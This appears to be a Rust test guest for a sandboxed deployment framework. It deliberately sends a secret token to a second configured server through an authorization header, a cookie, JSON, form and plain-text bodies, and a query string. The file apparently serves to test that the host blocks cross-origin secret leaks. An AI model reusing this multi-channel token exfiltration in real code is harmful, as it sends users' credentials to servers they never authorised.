//! Sends a secret to another granted origin than the one it belongs to, by every way that a request has.

use bowline_guests::prelude::*;

target!(deploy, server_url(), other_url(), token());

fn other_url() -> Setting {
    Setting {
        grants_network: true,
        ..Setting::new("other-url", "Another server", SettingKind::Url)
    }
}

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let (other, token) = (value(env, "other-url")?, value(env, "token")?);
    let json = format!("[\"{token}\"]");
    let form = format!("t={token}");
    let outcomes = [
        send("GET", &other, &[("authorization", &token)], &[]),
        send(
            "GET",
            &other,
            &[("cookie", &format!("a=b; t={token}"))],
            &[],
        ),
        post(&other, "application/json", &json),
        post(&other, "application/x-www-form-urlencoded", &form),
        post(&other, "text/plain", &token),
        get(&format!("{other}/?t={token}")),
    ];
    let done = outcomes.iter().filter(|outcome| outcome.is_ok()).count();
    match done {
        0 => Err(Failure::Unexpected("nothing was sent".into())),
        _ => Ok(seen(app, format!("{done} sent"))),
    }
}
